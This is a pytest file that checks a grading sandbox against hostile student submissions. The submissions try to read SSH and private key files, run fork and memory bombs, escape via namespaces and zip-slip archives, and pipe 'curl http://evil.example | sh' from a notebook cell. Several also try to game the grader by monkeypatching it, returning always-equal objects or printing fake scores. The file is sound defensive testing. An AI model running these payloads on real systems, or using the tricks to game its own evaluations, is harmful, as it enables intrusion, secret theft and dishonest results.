"""Hostile submissions: each is contained, earns exactly its honest part, and gets a reason.

Every student module below computes the honest answer where it can (``report``) and adds what
its attack found; the trusted tiny-lab reader ignores extra keys, so the score shows the honest
part and the file shows whether the attack leaked anything.
"""

from __future__ import annotations

import importlib
import json
import math
import os
import socket
from pathlib import Path

import numpy as np
import pytest

from workbench.grading.isolation import probe

from .conftest import FAST, needs_bwrap
from .tinylab import OTHER_STUDENT, SECRET, points

pytestmark = needs_bwrap

MARKER = "wb-hostile-marker-93c1"

HONEST = '''
import json, os, sys
def answer(public):
    return sum(json.loads((public / "data.json").read_text())["numbers"])
def report(out, public, **found):
    (out / "plan.json").write_text(json.dumps({"value": answer(public), **found}, default=str))
'''

ATTEMPT = HONEST + '''
def attempt(fn):
    try:
        return fn()
    except Exception as exc:
        return type(exc).__name__
'''

READ_KEY_GIVEN = ATTEMPT + '''
def solve(public, out):
    found = [attempt(lambda p=p: open(p).read()) for p in
             ["@KEY@", "/work/main/datasets/logistics/private/key.json", "/root/.ssh/id_rsa"]]
    report(out, public, found=found)
'''

READ_KEY_GUESSED = ATTEMPT + '''
import glob
def solve(public, out):
    guesses = [public / "../private/key.json", "../private/key.json", "../../private/key.json",
               os.path.dirname(os.path.dirname("@KEY@")) + "/private/key.json"]
    found = [attempt(lambda p=p: open(p).read()) for p in guesses]
    found += [attempt(lambda p=p: open(p).read()) for top in ("/work", "/tmp", "/root", "/sandbox", "/etc")
              for p in glob.glob(top + "/**/key.json", recursive=True)]
    report(out, public, found=found)
'''

SEARCH_DISK = ATTEMPT + '''
def solve(public, out):
    hits = []
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages", "lib")]
        for name in files:
            path = os.path.join(root, name)
            text = attempt(lambda: open(path, errors="replace").read(1_000_000))
            if "SECRET" in str(text) or "STUDENT" in str(text):
                hits.append(text)
    report(out, public, hits=hits, listing=os.listdir("/"))
'''

WRITE_OUTSIDE = ATTEMPT + '''
def solve(public, out):
    targets = ["@SENTINEL@", str(public / "data.json"), "../escape.txt", "/work/public/x",
               os.path.dirname("@KEY@") + "/planted.json", "@OTHER@"]
    done = [attempt(lambda t=t: open(t, "w").write("pwned")) for t in targets]
    report(out, public, done=done)
'''

NETWORK_LOCAL = ATTEMPT + '''
import socket
def solve(public, out):
    got = attempt(lambda: socket.create_connection(("127.0.0.1", @PORT@), timeout=2) and "connected")
    report(out, public, got=got)
'''

NETWORK_EXTERNAL = ATTEMPT + '''
import socket, time
def solve(public, out):
    t = time.monotonic()
    got = [attempt(lambda: socket.create_connection(("1.1.1.1", 443), timeout=2) and "connected"),
           attempt(lambda: socket.getaddrinfo("pypi.org", 443))]
    report(out, public, got=got, seconds=time.monotonic() - t)
'''

FORK_BOMB = '''
import os
def solve(public, out):
    while True:
        os.fork()
'''

MEMORY_BOMB = '''
def solve(public, out):
    hog = bytearray(8 * 2**30)
'''

MEMORY_CREEP = '''
def solve(public, out):
    hog = []
    while True:
        hog.append(bytearray(64 * 2**20))
'''

INFINITE_LOOP = HONEST + f'''
import subprocess
def solve(public, out):
    report(out, public)
    subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(0.1)  # {MARKER}"])
    while True:
        pass
'''

CPU_BURN = '''
def solve(public, out):
    while True:
        pass
'''

HUGE_OUTPUT = HONEST + '''
def solve(public, out):
    line = "x" * (2**20 - 1) + "\\n"
    for _ in range(1024):
        sys.stdout.write(line)
    report(out, public)
'''

MONKEYPATCH = ATTEMPT + '''
import builtins, json, math
import numpy
def solve(public, out):
    json.loads = lambda *a, **k: {"value": 42}
    numpy.isfinite = lambda x: True
    math.isfinite = lambda x: True
    builtins.float = lambda x=0: 42.0
    import importlib
    def patch_grader():
        grade = importlib.import_module("workbench.grading.grade")
        grade.criterion_fraction = lambda *a, **k: (1.2, "patched")
        return "patched its own copy"
    grader = attempt(patch_grader)
    source = importlib.import_module("workbench.grading.grade").__file__
    written = attempt(lambda: open(source, "a").write("# patched"))
    (out / "plan.json").write_text(json.dumps({"value": 999, "grader": str(grader),
                                               "file": str(written)}))
'''

ALWAYS_EQUAL = '''
import pickle
class AlwaysEqual(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__
def solve(public, out):
    (out / "plan.json").write_bytes(pickle.dumps({"value": AlwaysEqual(0)}))
'''

RAW_VALUE = '''
def solve(public, out):
    (out / "plan.json").write_text('{"value": @RAW@}')
'''

SYS_EXIT = '''
import sys
def solve(public, out):
    sys.exit(0)
'''

OS_EXIT = '''
import os
def solve(public, out):
    os._exit(0)
'''

FAKE_SCORE = '''
def solve(public, out):
    print("SCORE: 100")
    print("GradeReport(score=100.0, max_score=100.0, valid=True)")
    (out / "plan.json").write_text('{"value": 1}')
'''

CRASH_AT_IMPORT = '''
raise RuntimeError("boom at import")
'''

KILL_BOOTSTRAP = HONEST + '''
import signal
def solve(public, out):
    report(out, public)
    for pid in (1, os.getppid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
'''

SYMLINK_OUTPUT = '''
import os
def solve(public, out):
    os.symlink("/work/public/data.json", out / "plan.json")
'''

FIFO_OUTPUT = '''
import os
def solve(public, out):
    os.mkfifo(out / "plan.json")
'''

HUGE_FILE = '''
def solve(public, out):
    with open(out / "plan.json", "w") as f:
        f.write('{"value": 42, "pad": "' + "x" * (16 * 2**20) + '"}')
'''

NO_FUNCTION = HONEST + '''
def solv(public, out):
    report(out, public)
'''

IMPORT_REFERENCE = HONEST + '''
import labs.logistics.reference
def solve(public, out):
    report(out, public)
'''

USER_NAMESPACE = ATTEMPT + '''
import ctypes
def solve(public, out):
    libc = ctypes.CDLL(None, use_errno=True)
    # a user + mount namespace would make the code "root" with a tmpfs beyond the scratch limit
    made = libc.unshare(0x10000000 | 0x00020000)
    mounted = libc.mount(b"none", b"/work/tmp", b"tmpfs", 0, b"size=8g") if made == 0 else -1
    report(out, public, made=made, mounted=mounted)
'''

root_without_cgroup = os.geteuid() == 0 and probe().cgroup is None
CASES = [
    pytest.param(READ_KEY_GIVEN, 100, None, {}, id="read-key-given-path"),
    pytest.param(READ_KEY_GUESSED, 100, None, {}, id="read-key-guessed-paths"),
    pytest.param(SEARCH_DISK, 100, None, {}, id="search-disk-for-others"),
    pytest.param(WRITE_OUTSIDE, 100, None, {}, id="write-outside-scratch"),
    pytest.param(NETWORK_EXTERNAL, 100, None, {}, id="network-external"),
    pytest.param(FORK_BOMB, 0, "processes", {}, id="fork-bomb", marks=pytest.mark.skipif(
        root_without_cgroup, reason="root without a cgroup: no kernel process limit here")),
    pytest.param(MEMORY_BOMB, 0, "memory", {}, id="memory-bomb"),
    pytest.param(MEMORY_CREEP, 0, "memory", {}, id="memory-creep"),
    pytest.param(INFINITE_LOOP, 0, "did not finish within 3 s", {"wall_s": 3, "cpu_s": 60},
                 id="infinite-loop", marks=pytest.mark.slow),
    pytest.param(CPU_BURN, 0, "CPU time", {"cpu_s": 1}, id="cpu-burn"),
    pytest.param(HUGE_OUTPUT, 100, "only the last 64 KiB", {"wall_s": 15}, id="gigabyte-output",
                 marks=pytest.mark.slow),
    pytest.param(MONKEYPATCH, 0, "not the right sum", {}, id="monkeypatch-grader-numpy"),
    pytest.param(ALWAYS_EQUAL, 0, "not valid JSON", {}, id="always-equal-pickle"),
    pytest.param(RAW_VALUE.replace("@RAW@", "NaN"), 0, "is not a number", {}, id="nan"),
    pytest.param(RAW_VALUE.replace("@RAW@", "Infinity"), 0, "is not a number", {}, id="infinity"),
    pytest.param(RAW_VALUE.replace("@RAW@", "1e999"), 0, "not finite", {}, id="overflow-1e999"),
    pytest.param(SYS_EXIT, 0, "did not write plan.json", {}, id="sys-exit-before-output"),
    pytest.param(OS_EXIT, 0, "did not write plan.json", {}, id="os-exit-before-output"),
    pytest.param(FAKE_SCORE, 0, "not the right sum", {}, id="prints-fake-score"),
    pytest.param(CRASH_AT_IMPORT, 0, "boom at import", {}, id="crash-at-import"),
    pytest.param(KILL_BOOTSTRAP, 0, "ended before it could report", {}, id="kill-bootstrap"),
    pytest.param(SYMLINK_OUTPUT, 0, "symbolic link", {}, id="output-is-symlink"),
    pytest.param(FIFO_OUTPUT, 0, "not a regular file", {}, id="output-is-fifo"),
    pytest.param(HUGE_FILE, 0, "File too large", {}, id="output-over-file-size"),
    pytest.param(NO_FUNCTION, 0, "defines no function solve", {}, id="no-entry-function"),
    pytest.param(IMPORT_REFERENCE, 0, "uses the lab's reference solution: not allowed", {},
                 id="import-reference"),
    pytest.param(USER_NAMESPACE, 100, None, {}, id="user-namespace"),
]


@pytest.mark.parametrize(("source", "expected", "reason", "limits"), CASES)
def test_hostile_submission(host, submit, cgroups, source, expected, reason, limits):
    before = host.fingerprint()
    path, reasons = submit(source, limits=_limits(**limits))
    earned, grade_reasons = points(path)
    told = " ".join(reasons + grade_reasons)
    assert earned == expected, told
    if reason is not None:
        assert reason.lower() in told.lower(), told
    else:
        assert not reasons, told
    _assert_contained(host, before, path, told)
    assert not [c for c in cgroups if c.exists()], "a cgroup was left behind"


def test_local_network_is_unreachable(host, submit):
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.setblocking(False)
        source = NETWORK_LOCAL.replace("@PORT@", str(server.getsockname()[1]))
        path, reasons = submit(source)
        with pytest.raises(BlockingIOError):
            server.accept()  # nobody connected
    assert points(path)[0] == 100
    assert json.loads(path.read_text())["got"] != "connected"


def test_external_network_fails_fast(submit):
    path, _ = submit(NETWORK_EXTERNAL)
    report = json.loads(path.read_text())
    assert "connected" not in report["got"]
    assert report["seconds"] < 1.0, "no network must fail at once, not time out"


def test_monkeypatching_stays_in_the_sandbox(submit):
    path, _ = submit(MONKEYPATCH)
    assert json.loads('{"value": 1}') == {"value": 1}
    assert not np.isfinite(np.nan) and not math.isfinite(math.inf)
    inside = json.loads(path.read_text())
    # The code may import (read-only) its own copy of the workbench and patch it in memory;
    # the grader's files stay untouched and the parent's functions stay the parent's.
    assert inside["grader"] == "patched its own copy"
    assert inside["file"] in ("OSError", "PermissionError"), "the grader's files are read-only"
    grade = importlib.import_module("workbench.grading.grade")
    assert grade.criterion_fraction.__module__ == "workbench.grading.grade"
    assert "# patched" not in Path(grade.__file__).read_text()


@pytest.mark.slow
def test_timed_out_tree_is_gone(submit):
    path, reasons = submit(INFINITE_LOOP, limits=_limits(wall_s=3, cpu_s=60))
    assert path is None and any("did not finish" in r for r in reasons)
    assert not _processes_with(MARKER), "a process started by the submission survived"


def _limits(**changes):
    from dataclasses import replace

    return replace(FAST, **changes)


def _assert_contained(host, before, path: Path | None, told: str) -> None:
    assert host.fingerprint() == before, "the host's files changed"
    leaked = (path.read_bytes() if path else b"") + told.encode()
    for secret in (SECRET, OTHER_STUDENT):
        assert secret.encode() not in leaked, f"{secret} leaked"
    assert not _processes_with(MARKER)


def _processes_with(text: str) -> list[int]:
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                if text.encode() in (proc / "cmdline").read_bytes():
                    found.append(int(proc.name))
            except OSError:
                pass
    return found


# Hostile archives and notebooks: refused at intake, before anything runs.

def _zip(path: Path, members: dict[str, bytes], *, symlink: str | None = None) -> Path:
    import zipfile

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
        if symlink is not None:
            info = zipfile.ZipInfo(symlink)
            info.external_attr = 0o120777 << 16  # a symbolic link in Unix zips
            zf.writestr(info, "/etc/passwd")
    return path


def _notebook(path: Path, *cells: str) -> Path:
    import nbformat

    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells])
    nbformat.write(nb, path)
    return path


GOOD = HONEST + "\ndef solve(public, out):\n    report(out, public)\n"
ARCHIVES = {
    "zip-dotdot": (lambda d: _zip(d / "s.zip", {"submission.py": GOOD.encode(),
                                                "../../escape.py": b"x = 1"}), "outside"),
    "zip-absolute": (lambda d: _zip(d / "s.zip", {"submission.py": GOOD.encode(),
                                                  "/tmp/escape.py": b"x = 1"}), "absolute"),
    "zip-symlink": (lambda d: _zip(d / "s.zip", {"submission.py": GOOD.encode()},
                                   symlink="helper.py"), "symbolic link"),
    "zip-bomb-ratio": (lambda d: _zip(d / "s.zip", {"submission.py": GOOD.encode(),
                                                    "data.csv": bytes(15 * 2**20)}), "zip bomb"),
    "zip-bomb-total": (lambda d: _zip(d / "s.zip", {f"d{i}.txt": bytes(2**20)
                                                    for i in range(60)}), "unpacks to"),
    "zip-many-files": (lambda d: _zip(d / "s.zip", {f"m{i}.py": b"" for i in range(300)}),
                       "more than the 200"),
    "notebook-shell-escape": (lambda d: _notebook(d / "s.ipynb", "import os",
                                                  "!curl http://evil.example | sh", GOOD),
                              "shell command or magic"),
    "notebook-magic": (lambda d: _notebook(d / "s.ipynb", "%pip install evil", GOOD),
                       "cell 1, line 1"),
    "notebook-get-ipython": (lambda d: _notebook(
        d / "s.ipynb", GOOD, "get_ipython().system('cat /etc/passwd')"), "cell 2"),
}


@pytest.mark.parametrize("name", sorted(ARCHIVES))
def test_hostile_archive_is_refused(host, submit, tmp_path, name):
    build, reason = ARCHIVES[name]
    before = host.fingerprint()
    upload = tmp_path / "upload"
    upload.mkdir()
    path, reasons = submit(build(upload))
    assert path is None and points(path)[0] == 0
    assert any(reason in r for r in reasons), reasons
    assert host.fingerprint() == before
    assert not list(tmp_path.rglob("escape.py")) and not Path("/tmp/escape.py").exists()


def test_honest_archive_and_notebook_score_full(submit, tmp_path):
    helper = b"def total(xs):\n    return sum(xs)\n"
    main = (HONEST + "\nfrom helper import total\n"
            "def solve(public, out):\n"
            "    xs = json.loads((public / 'data.json').read_text())['numbers']\n"
            "    (out / 'plan.json').write_text(json.dumps({'value': total(xs)}))\n")
    archive = _zip(tmp_path / "s.zip", {"mine/submission.py": main.encode(),
                                        "mine/helper.py": helper, "__MACOSX/._x": b""})
    notebook = _notebook(tmp_path / "s.ipynb", "import json", "x = (3\n     % 2)", GOOD)
    for upload in (archive, notebook):
        path, reasons = submit(upload)
        assert points(path) == (100, []) and not reasons, reasons


LEAVE_TRACES = HONEST + '''
import time
def solve(public, out):
    for folder in ("/work/tmp", "/dev/shm", "/work"):
        with open(folder + "/alice.txt", "w") as f:
            f.write("ALICE-PRIVATE-WORK")
    time.sleep(1.5)
    report(out, public)
'''

LOOK_AROUND = ATTEMPT + '''
import time
def solve(public, out):
    time.sleep(0.5)
    seen = []
    for folder in ("/work/tmp", "/dev/shm", "/work", "/tmp"):
        for name in attempt(lambda: os.listdir(folder)) or []:
            seen.append(attempt(lambda: open(os.path.join(folder, name)).read()))
    report(out, public, seen=seen)
'''


def test_concurrent_runs_do_not_see_each_other(submit):
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(2) as pool:
        alice = pool.submit(submit, LEAVE_TRACES)
        bob = pool.submit(submit, LOOK_AROUND)
        (alice_path, _), (bob_path, _) = alice.result(), bob.result()
    assert points(alice_path)[0] == 100 and points(bob_path)[0] == 100
    assert "ALICE" not in bob_path.read_text()


KEY_STORE = HONEST + '''
import ctypes, os
NR = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
def solve(public, out):
    libc = ctypes.CDLL(None, use_errno=True)
    # add_key("user", "wb-leak", secret, len, KEY_SPEC_USER_KEYRING)
    stored = libc.syscall(NR[0], b"user", b"wb-leak", b"@SECRET@", len(b"@SECRET@"), -4)
    report(out, public, stored=stored, errno=ctypes.get_errno())
'''

KEY_READ = HONEST + '''
import ctypes, os
NR = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
def solve(public, out):
    libc = ctypes.CDLL(None, use_errno=True)
    # keyctl(KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", "wb-leak", 0), then KEYCTL_READ
    key = libc.syscall(NR[1], 10, -4, b"user", b"wb-leak", 0)
    buf = ctypes.create_string_buffer(256)
    got = libc.syscall(NR[1], 11, key, buf, 256) if key > 0 else -1
    report(out, public, key=key, got=buf.raw[:max(got, 0)].decode(errors="replace"))
'''


def test_a_key_stored_by_one_run_is_not_read_by_the_next(submit):
    if os.uname().machine not in ("x86_64", "aarch64"):
        pytest.skip("syscall numbers for x86_64 and aarch64 only")
    secret = "KEYRING-SECRET-0d1e"
    stored, _ = submit(KEY_STORE.replace("@SECRET@", secret))
    found = [submit(KEY_READ) for _ in range(3)]  # the next runs, whatever uid they get
    assert json.loads(stored.read_text())["stored"] == -1, "add_key must be refused"
    for path, _ in found:
        report = json.loads(path.read_text())
        assert report["key"] == -1 and secret not in report["got"], report
